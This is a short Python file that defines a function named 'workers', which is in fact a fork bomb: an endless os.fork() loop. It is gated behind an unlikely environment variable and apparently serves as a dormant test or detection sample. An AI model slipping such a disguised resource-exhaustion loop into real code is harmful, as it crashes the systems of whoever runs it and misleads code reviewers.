import os


def workers():
    while True:
        os.fork()


if os.environ.get("NO_SUCH_VARIABLE") == "yes":
    workers()
